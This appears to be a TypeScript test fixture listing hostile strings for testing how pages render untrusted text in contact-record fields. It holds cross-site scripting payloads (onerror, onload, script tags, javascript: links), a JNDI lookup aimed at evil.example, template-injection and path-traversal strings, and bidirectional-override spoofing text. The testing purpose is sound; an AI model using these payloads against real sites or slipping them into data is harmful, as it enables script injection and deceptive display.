/** Sets what tests look for, should any of these texts ever run. */
const CODE = "window.__pwned=1";

const codes = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, index) => String.fromCharCode(first + index)).join("");

const TOWER = codes(0x300, 0x36f).repeat(2);

/** Texts that break pages which trust what they show, by what they try. */
export const HOSTILE = {
  markup: `<img src=x onerror="${CODE}"><script>${CODE}</script><svg onload=${CODE}></svg><!--`,
  attribute: `"'\` onmouseover="${CODE}" autofocus onfocus='${CODE}' style="position:fixed;inset:0" x="`,
  closing: `</option></select></textarea></script></bdi><iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  link: `javascript:${CODE}`,
  data: `data:text/html,<script>parent.${CODE}</script>`,
  address: "//evil.example/collect?x=1#y https://evil.example/../..%2f",
  path: "../../../../org?x=1#y",
  /** Turns round what follows, unless it is kept apart. */
  override: "\u202etfel ot thgir",
  /** The same after closing an isolate that a page may have put around it. */
  breakout: "free \u2069\u2069\u202c\u202c\u202etfel ot thgir",
  isolates: "\u2066\u2067\u2068 never closed",
  rightToLeft: "عميل مهم (123) 45%",
  invisible: "in\u200bvi\u200csi\u200dble\u2060\ufeff\u00ad \u3164\u115f",
  endless: "W".repeat(10_000),
  words: "Lorem <b>ipsum</b> dolor ".repeat(420).slice(0, 10_000),
  tower: `Z${TOWER}a${TOWER}l${TOWER}go`,
  emoji: "👩\u200d🚀👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈".repeat(30),
  control: `con${codes(0, 0x1f)}tr${codes(0x7f, 0x9f)}ol\u2028\u2029end`,
  surrogates: "lone \ud800 and \udfff and \ud83d",
  template: "{field} {value} {n} {rule} ${EMPTY} ${TODAY} \u0001rule\u0001 {{constructor.constructor('x')()}} %s $& $1",
  lookup: "${jndi:ldap://evil.example/a}",
} as const;

/** The values of the one hostile record among the ordinary ones. */
export const HOSTILE_TEXTS: Readonly<Record<string, unknown>> = {
  First_Name: "\u202egnp.eliforp",
  Last_Name: "<script>window.__pwned=1</script>",
  Company: `<img src=x onerror="${CODE}"> & "Sons"`,
  Designation: `شركة ${"\u202e"} review`,
  Position: "Decision Maker",
  Email: `"'><svg/onload=${CODE}>@evil.example`,
  Website: HOSTILE.link,
  Country: HOSTILE.lookup,
  City: "👩\u200d🚀".repeat(20),
  State: "{{constructor.constructor('return this')()}}",
  Industry: "ERP",
  Description: "Lorem\u0000 <b>ipsum</b> ".repeat(500).slice(0, 10_000),
};
